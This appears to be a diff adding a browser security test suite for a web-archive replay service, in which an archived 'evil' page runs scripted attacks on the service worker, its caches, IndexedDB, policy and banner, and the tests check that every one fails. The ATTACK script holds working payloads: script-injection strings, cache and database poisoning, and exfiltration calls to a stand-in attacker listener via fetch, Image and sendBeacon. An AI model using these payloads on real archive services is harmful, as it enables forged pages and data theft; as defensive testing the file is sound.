@@ -1,0 +1,415 @@
+"""Attacks of one archived page on the others, in a real browser: on the worker that shows them, on what it
+stores, on its policy, and on the banner above them. Nothing is forged, and nothing arrives at the attacker.
+
+Scripts run in the archived page without being rewritten, so they have what an archived script could get at
+most: the native functions of the browser, in the replay origin.
+"""
+
+import json
+from collections.abc import Iterator
+
+import pytest
+from leaks import Leaks, launched
+from listener import Listener
+from museum import Served, Warc, ask, make_home, serving
+from playwright.sync_api import Browser, BrowserContext, Page, Response, expect
+
+pytestmark = pytest.mark.browser
+STAMP = "20240102030405"
+EVIL, VICTIM = "http://evil.example", "http://victim.example"
+GENUINE = "<!doctype html><title>Victim</title><h1>Genuine page of the victim</h1><p id=words></p>"
+TELLING = """<script>
+const words = document.getElementById("words");
+const request = indexedDB.open("drafts", 1);
+request.onupgradeneeded = () => request.result.createObjectStore("drafts");
+request.onsuccess = () => {
+  const got = request.result.transaction("drafts").objectStore("drafts").get("words");
+  got.onsuccess = () => {
+    const stored = got.result || localStorage.getItem("words");
+    words.textContent = stored || "by the victim's own script";
+  };
+};
+</script>"""
+CLAIM = """(victim) => {
+  addEventListener("beforeunload", (event) => event.preventDefault());
+  setInterval(() => {
+    window.parent.postMessage({ ...victim, wb_type: "load", title: "Victim" }, "*");
+    window.parent.postMessage({ wb_type: "title", title: "Victim" }, "*");
+    window.stop();
+  }, 5);
+}"""
+
+
+@pytest.fixture(scope="module")
+def attacker() -> Iterator[Listener]:
+    with Listener.listening() as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    folder = tmp_path_factory.mktemp("attacked")
+    warc = Warc(folder / "attack.warc.gz")
+    warc.response(f"{EVIL}/", STAMP, b"<!doctype html><title>Evil</title><h1>EVIL</h1>")
+    warc.response(f"{EVIL}/ext.js", STAMP, b"document.title = 'EXT RAN'", mime="text/javascript")
+    warc.response(f"{EVIL}/direct.html", STAMP, b"<title>Direct</title>EVIL<script src=ext.js></script>")
+    warc.response(
+        f"{EVIL}/two-types",
+        STAMP,
+        b"<title>Two</title>EVIL<script>document.title = 'RAN'</script>"
+        b"<meta http-equiv=refresh content='0; url=direct.html'>",
+        mime="application/pdf",
+        headers=[("Content-Type", "text/html")],
+    )
+    warc.response(f"{EVIL}/one-header", STAMP, b"<title>One</title>", mime="application/pdf, text/html")
+    warc.response(f"{VICTIM}/", STAMP, (GENUINE + TELLING).encode())
+    with serving(make_home(folder / "home", warc.write())) as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    # The attacker is on loopback, which this browser reaches without a proxy: what leaks is heard there.
+    with Leaks.listening() as leaks, launched(leaks) as made:
+        yield made
+        assert not [line for line in leaks.asked if ".example" in line]
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    made = browser.new_context()
+    yield made
+    made.close()
+
+
+def open_evil(context: BrowserContext, served: Served) -> Page:
+    page = context.new_page()
+    page.goto(f"{served.portal}/all/{STAMP}/{EVIL}/")
+    expect(page.frame_locator("#frame").locator("h1")).to_have_text("EVIL", timeout=20_000)
+    return page
+
+
+def policies(served: Served) -> dict[str, str]:
+    """The headers that everything from the worker must have."""
+    first = ask(f"{served.replay}/sw.js").text.partition("\n")[0]
+    headers = dict(json.loads(first.removeprefix("self.webdepot = ").removesuffix(";"))["headers"])
+    assert "default-src 'self'" in headers["Content-Security-Policy"]
+    return {name.lower(): value for name, value in headers.items()}
+
+
+def expect_genuine(context: BrowserContext, served: Served, attacker: Listener) -> None:
+    """The victim's page in a new tab is what was archived, with our policy, and nobody was told."""
+    seen: list[Response] = []
+    page = context.new_page()
+    page.on("response", lambda response: seen.append(response))
+    page.goto(f"{served.portal}/all/{STAMP}/{VICTIM}/")
+    inside = page.frame_locator("#frame")
+    expect(inside.locator("h1")).to_have_text("Genuine page of the victim", timeout=20_000)
+    expect(inside.locator("#words")).to_have_text("by the victim's own script")
+    expect(page.locator(".page-address")).to_have_text(f"{VICTIM}/")
+    assert "FORGED" not in page.frames[1].content()
+    shown = [one for one in seen if f"{STAMP}mp_/{VICTIM}/" in one.url and "/-/start/" not in one.url]
+    assert shown
+    for response in shown:
+        for name, value in policies(served).items():
+            assert response.headers[name] == value
+    page.wait_for_timeout(300)
+    assert attacker.heard == []
+    page.close()
+
+
+ATTACK = """
+async ({ attack, attacker, stamp, victim }) => {
+  // Inserted in a way that the rewriting script does not see, so the frame has the browser's own functions.
+  const range = document.createRange();
+  range.selectNodeContents(document.body);
+  range.insertNode(document.createElement("iframe"));
+  const bare = window[window.length - 1];
+  if (!/native code/.test(bare.ServiceWorkerContainer.prototype.register)) throw new Error("not native");
+  const { caches, fetch, indexedDB, localStorage } = bare;
+  const workers = Object.getOwnPropertyDescriptor(Navigator.prototype, "serviceWorker").get.call(navigator);
+  const register = bare.ServiceWorkerContainer.prototype.register.bind(workers);
+  const registration = await workers.getRegistration("/");
+  const forged = `<h1>FORGED</h1><script>document.write("FORGED"); new Image().src = "${attacker}/exfil";`
+    + "</" + "script>";
+  const extraConfig = {
+    prefix: "", isLive: false, archivePrefix: "/all/", archiveMod: "id_",
+    csp: "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'",
+    injectScripts: ["x'></" + "script>" + forged + "<script src='"],
+  };
+  const live = { ...extraConfig, prefix: attacker + "/", isLive: true };
+  const config = (extraConfig) => ({ sourceUrl: "proxy:", extraConfig, metadata: {}, ctime: 1 });
+  const post = (message) => {
+    for (const worker of [workers.controller, registration.active]) worker.postMessage(message);
+    const channel = new MessageChannel();
+    registration.active.postMessage(message, [channel.port1]);
+  };
+  const open = (version, change) => new Promise((yes, no) => {
+    const request = indexedDB.open("collDB", version);
+    request.onupgradeneeded = () => {
+      const names = request.result.objectStoreNames;
+      if (!names.contains("colls")) request.result.createObjectStore("colls", { keyPath: "name" });
+      if (!names.contains("settings")) request.result.createObjectStore("settings");
+    };
+    request.onerror = () => no(request.error);
+    request.onsuccess = () => {
+      const change_ = request.result.transaction(["colls"], "readwrite");
+      change(change_.objectStore("colls"));
+      change_.oncomplete = () => { request.result.close(); yes(); };
+    };
+  });
+  const put = (store) => {
+    for (const [name, extra] of [["all", extraConfig], ["-", live], ["static", live], ["sw.js", live]]) {
+      store.put({ name, type: "live", config: config(extra) });
+    }
+  };
+  const page = `/all/${stamp}mp_/${victim}/`;
+  const made = (type) => new Response(forged, { headers: { "Content-Type": type } });
+  const attempts = {
+    async addColl() {
+      for (const [name, extra] of [["all", extraConfig], ["-", live], ["static", live]]) {
+        post({ msg_type: "addColl", name, type: "live", skipExisting: false, file: { sourceUrl: "proxy:" },
+               extraConfig: extra });
+      }
+      post({ msg_type: "reload_all" });
+      post({ msg_type: "reload", name: "all" });
+    },
+    async removeColl() {
+      post({ msg_type: "removeColl", name: "all" });
+      post({ msg_type: "cancelLoad", name: "all" });
+      post({ msg_type: "updateMetadata", name: "all", metadata: { title: "FORGED" } });
+    },
+    async api() {
+      const send = (method, path, body) =>
+        fetch("/api/" + path, { method, body: body && JSON.stringify(body) }).catch(() => 0);
+      await send("POST", "c/create", { metadata: {}, extraConfig });
+      await send("POST", "c/all/updateAuth", { headers: { "X-Evil": "1" } });
+      await send("POST", "c/all/metadata", { title: "FORGED" });
+      await send("DELETE", "c/all");
+    },
+    async indexedDB() { await open(3, put); post({ msg_type: "reload_all" }); },
+    async databaseOfTheFuture() { await open(99, put); },
+    async caches() {
+      for (const name of ["wabac-offline", "wabac-all"]) {
+        const cache = await caches.open(name);
+        await cache.put(page, made("text/html"));
+        await cache.put(`/all/${stamp}sw_/${victim}/`, made("text/html"));
+        await cache.put(`/-/start/all/${stamp}mp_/${victim}/`, made("text/html"));
+        for (const path of ["/sw.js", "/-/start.js", "/-/inside.js", "/static/wombat.js"]) {
+          await cache.put(path, new Response("document.write('FORGED')",
+                                             { headers: { "Content-Type": "text/javascript" } }));
+        }
+      }
+    },
+    async localStorage() {
+      for (const value of ["1", "2"]) localStorage.setItem("collection all", value);
+    },
+    async forTheVictim() {
+      for (const name of ["words", victim + "/words"]) localStorage.setItem(name, "FORGED");
+      await new Promise((resolve) => {
+        const request = indexedDB.open(`wb-${victim}-drafts`, 1);
+        request.onupgradeneeded = () => request.result.createObjectStore("drafts").put("FORGED", "words");
+        request.onsuccess = () => { request.result.close(); resolve(); };
+      });
+    },
+    async query() {
+      const query = "?replayPrefix=&allowCache=1&root=all&serveIndex=1&allowProxyPassthrough=1&allowProxyPaths="
+        + attacker + "&injectScripts=" + encodeURIComponent(extraConfig.injectScripts[0]);
+      await register("/sw.js" + query, { scope: "/" });
+      await register("/sw.js?proxyOriginMode=1", { scope: "/" });
+    },
+    async scopes() {
+      for (const scope of [page, `/all/${stamp}mp_/`, "/-/start/", "/all/", "/static/"]) {
+        await register("/sw.js?replayPrefix=x", { scope });
+      }
+    },
+    async foreignScript() {
+      for (const modifier of ["id_", "sw_", "js_", "mp_", "wkr_"]) {
+        await register(`/all/${stamp}${modifier}/http://evil.example/ext.js`, { scope: "/" })
+          .then(() => { throw new Error("registered"); }, () => 0);
+      }
+    },
+    async preload() {
+      await registration.navigationPreload.enable();
+      await registration.navigationPreload.setHeaderValue("x");
+    },
+    async unregister() {
+      for (const one of await workers.getRegistrations()) await one.unregister();
+    },
+    async live() {
+      await bare.fetch(attacker + "/fetch", { mode: "no-cors" }).catch(() => 0);
+      new bare.Image().src = attacker + "/image";
+      bare.navigator.sendBeacon(attacker + "/beacon", "x");
+      bare.document.documentElement.insertAdjacentHTML(
+        "beforeend", `<iframe src="${attacker}/frame"></iframe><link rel=preconnect href="${attacker}">`);
+      await fetch("/static/proxy/" + attacker + "/proxied").catch(() => 0);
+      await fetch(`/-/${stamp}mp_/${attacker}/`).catch(() => 0);
+    },
+  };
+  await attempts[attack]();
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return "done";
+}
+"""
+ATTACKS = (
+    "addColl",
+    "removeColl",
+    "api",
+    "indexedDB",
+    "databaseOfTheFuture",
+    "caches",
+    "localStorage",
+    "query",
+    "scopes",
+    "foreignScript",
+    "preload",
+    "unregister",
+    "live",
+)
+
+
+def run(page: Page, served: Served, attacker: Listener, attack: str) -> None:
+    given = {"attack": attack, "attacker": attacker.url, "stamp": STAMP, "victim": VICTIM}
+    assert page.frames[1].url.startswith(served.replay)
+    assert page.frames[1].evaluate(ATTACK, given) == "done"
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_a_page_cannot_change_how_another_is_shown(
+    context: BrowserContext, served: Served, attacker: Listener, attack: str
+):
+    evil = open_evil(context, served)
+    run(evil, served, attacker, attack)
+    expect_genuine(context, served, attacker)
+    evil.close()
+    expect_genuine(context, served, attacker)
+
+
+def test_what_a_page_stores_for_another_is_gone_when_it_is_closed(
+    context: BrowserContext, served: Served, attacker: Listener
+):
+    evil = open_evil(context, served)
+    run(evil, served, attacker, "forTheVictim")
+    evil.close()
+    expect_genuine(context, served, attacker)
+
+
+def test_nor_with_all_attacks_together(context: BrowserContext, served: Served, attacker: Listener):
+    evil = open_evil(context, served)
+    for attack in (*ATTACKS, "forTheVictim"):
+        run(evil, served, attacker, attack)
+    evil.close()
+    expect_genuine(context, served, attacker)
+
+
+def test_everything_that_the_worker_answers_has_our_policy(
+    context: BrowserContext, served: Served, attacker: Listener
+):
+    """Documents that it makes itself included: blank ones, of blobs, of texts, and its errors."""
+    page = open_evil(context, served)
+    seen: list[Response] = []
+    page.on("response", lambda response: seen.append(response))
+    page.frames[1].evaluate(
+        """async ({ stamp, evil }) => {
+          const blob = URL.createObjectURL(new Blob(["<h1>blob</h1>"], { type: "text/html" })).split("/").pop();
+          const texts = btoa(encodeURIComponent("<h1>text</h1>"));
+          const addresses = ["about:blank", `blob:${blob}/${evil}/`, "srcdoc:" + texts, `${evil}/missing`,
+                             "__wb_module_decl.js", "nonsense:x", `${evil}/ext.js`];
+          for (const modifier of ["mp_", "if_", "oe_"]) {
+            for (const address of addresses) {
+              const frame = document.createElement("iframe");
+              HTMLElement.prototype.setAttribute.call(frame, "src", `/all/${stamp}${modifier}/${address}`);
+              document.body.append(frame);
+            }
+          }
+          for (const address of addresses) await fetch(`/all/${stamp}mp_/${address}`).catch(() => 0);
+          await new Promise((resolve) => setTimeout(resolve, 1500));
+        }""",
+        {"stamp": STAMP, "evil": EVIL},
+    )
+    made = [one for one in seen if one.from_service_worker and f"/all/{STAMP}" in one.url]
+    assert len(made) > 15
+    for response in made:
+        for name, value in policies(served).items():
+            assert response.headers.get(name) == value, response.url
+    assert attacker.heard == []
+
+
+def test_the_worker_is_the_same_whatever_it_is_asked_with(served: Served):
+    plain = ask(f"{served.replay}/sw.js")
+    for query in ("?x", "?replayPrefix=w&injectScripts=//evil", "?root=all&serveIndex=1"):
+        assert ask(f"{served.replay}/sw.js{query}").body == plain.body
+    again = ask(f"{served.replay}/sw.js", headers={"If-None-Match": plain.headers["ETag"]})
+    assert again.status == 304 and "Service-Worker-Allowed" not in plain.headers
+
+
+def test_the_banner_does_not_believe_the_page(context: BrowserContext, served: Served, attacker: Listener):
+    """A page that says it is another gets the other one opened; it cannot stay below a banner that is not
+    its own.
+    """
+    page = open_evil(context, served)
+    page.frames[1].evaluate(CLAIM, {"url": f"{VICTIM}/", "ts": STAMP})
+    expect(page.locator(".page-address")).to_have_text(f"{VICTIM}/", timeout=20_000)
+    for _ in range(20):
+        if page.locator(".page-address").inner_text() == f"{VICTIM}/":
+            assert "EVIL" not in page.frame_locator("#frame").locator("html").inner_text()
+        page.wait_for_timeout(50)
+    expect(page.frame_locator("#frame").locator("h1")).to_have_text("Genuine page of the victim")
+
+
+def test_a_page_cannot_take_the_whole_window(context: BrowserContext, served: Served, attacker: Listener):
+    """Opened without its frame while the worker is there, it is sent to its frame before it can act."""
+    open_evil(context, served)
+    page = context.new_page()
+    for modifier in ("mp_", "if_", "oe_"):
+        page.goto(f"{served.replay}/all/{STAMP}{modifier}/{EVIL}/direct.html")
+        page.wait_for_timeout(300)
+        assert page.title() != "EXT RAN" or page.url.startswith(served.frame)
+    assert attacker.heard == []
+
+
+@pytest.mark.parametrize("modifier", ["sw_", "js_", "cs_", "im_", "oe_", "fw_", "id_", "ns_", "wkr_", "xx_"])
+@pytest.mark.parametrize("destination", [None, "document", "iframe", "empty", "script"])
+def test_every_modifier_is_sandboxed(served: Served, modifier: str, destination: str | None):
+    headers = {"Sec-Fetch-Dest": destination} if destination else {}
+    answer = ask(f"{served.replay}/all/{STAMP}{modifier}/{EVIL}/direct.html", headers=headers)
+    assert answer.headers.get_all("Content-Type") == [answer.headers["Content-Type"]]
+    (policy,) = answer.headers.get_all("Content-Security-Policy")
+    words = policy.partition(";")[0].split()
+    assert words[0] == "sandbox" and "allow-scripts" not in words
+
+
+@pytest.mark.parametrize("modifier", ["mp_", "if_", "fr_"])
+@pytest.mark.parametrize("destination", [None, "document", "iframe", "frame", "object", "embed", "empty"])
+def test_pages_for_the_worker_are_never_sent_without_it(
+    served: Served, modifier: str, destination: str | None
+):
+    headers = {"Sec-Fetch-Dest": destination} if destination else {}
+    answer = ask(f"{served.replay}/all/{STAMP}{modifier}/{EVIL}/direct.html", headers=headers)
+    policy = answer.headers["Content-Security-Policy"]
+    assert b"EVIL" not in answer.body or policy.startswith("sandbox;")
+    assert "script-src 'self'" not in policy and "'unsafe" not in policy.replace("style-src 'unsafe", "")
+
+
+@pytest.mark.parametrize("path", ["two-types", "one-header"])
+@pytest.mark.parametrize("modifier", ["id_", "sw_", "ns_", "oe_"])
+def test_a_capture_with_two_types_has_one(served: Served, path: str, modifier: str):
+    answer = ask(f"{served.replay}/all/{STAMP}{modifier}/{EVIL}/{path}")
+    assert answer.headers.get_all("Content-Type") == ["application/pdf"]
+
+
+@pytest.mark.parametrize("path", ["two-types", "direct.html"])
+@pytest.mark.parametrize("modifier", ["id_", "sw_", "js_", "oe_"])
+def test_a_capture_opened_directly_runs_nothing(
+    context: BrowserContext, served: Served, path: str, modifier: str
+):
+    page = context.new_page()
+    downloaded = []
+    page.on("download", lambda download: downloaded.append(download))
+    try:
+        page.goto(f"{served.replay}/all/{STAMP}{modifier}/{EVIL}/{path}")
+    except Exception as error:
+        assert "Download" in str(error) or "ERR_ABORTED" in str(error), error
+    page.wait_for_timeout(300)
+    assert page.title() not in ("RAN", "EXT RAN")
+    assert not any(frame.url.endswith("direct.html") for frame in page.frames if path == "two-types")
